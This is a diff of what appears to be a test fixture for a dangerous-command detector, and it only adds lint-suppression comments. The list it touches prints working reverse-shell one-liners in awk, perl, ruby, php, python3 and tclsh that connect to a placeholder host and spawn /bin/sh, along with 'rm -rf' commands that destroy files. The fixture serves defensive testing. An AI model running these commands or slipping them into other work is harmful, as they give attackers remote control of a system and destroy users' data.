@@ -84,7 +84,7 @@ DANGEROUS = [
         "network backdoor",
     ),
     (
-        'awk \'BEGIN {s = "/inet/tcp/0/1.2.3.4/4444"; while(1) {printf "> " |& s; s |& getline c; while ((c |& getline) > 0) print $0 |& s; close(c)}}\'',
+        'awk \'BEGIN {s = "/inet/tcp/0/1.2.3.4/4444"; while(1) {printf "> " |& s; s |& getline c; while ((c |& getline) > 0) print $0 |& s; close(c)}}\'',  # noqa: E501
         "network backdoor",
     ),
     ("awk 'BEGIN{system(\"rm -rf ~\")}'", "filesystem destruction"),
@@ -93,21 +93,21 @@ DANGEROUS = [
         "network backdoor",
     ),
     (
-        'perl -e \'use Socket;$i="1.2.3.4";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};\'',
+        'perl -e \'use Socket;$i="1.2.3.4";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};\'',  # noqa: E501
         "network backdoor",
     ),
     (
-        'ruby -rsocket -e \'f=TCPSocket.open("1.2.3.4",4444).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)\'',
+        'ruby -rsocket -e \'f=TCPSocket.open("1.2.3.4",4444).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)\'',  # noqa: E501
         "network backdoor",
     ),
     ('php -r \'$sock=fsockopen("1.2.3.4",4444);exec("/bin/sh -i <&3 >&3 2>&3");\'', "network backdoor"),
     (
-        'python3 -c \'import socket,subprocess,os;s=socket.socket();s.connect(("1.2.3.4",4444));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])\'',
+        'python3 -c \'import socket,subprocess,os;s=socket.socket();s.connect(("1.2.3.4",4444));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])\'',  # noqa: E501
         "network backdoor",
     ),
     ("jrunscript -e 'java.lang.Runtime.getRuntime().exec(\"rm -rf /\")'", "filesystem destruction"),
     (
-        'echo \'set s [socket 1.2.3.4 4444];while 1 { puts -nonewline $s "> ";flush $s;gets $s c;set e "exec $c";catch {eval $e} r;puts $s $r;flush $s}\' | tclsh',
+        'echo \'set s [socket 1.2.3.4 4444];while 1 { puts -nonewline $s "> ";flush $s;gets $s c;set e "exec $c";catch {eval $e} r;puts $s $r;flush $s}\' | tclsh',  # noqa: E501
         "network backdoor",
     ),
     ("julia -e 'run(`rm -rf /`)'", "filesystem destruction"),
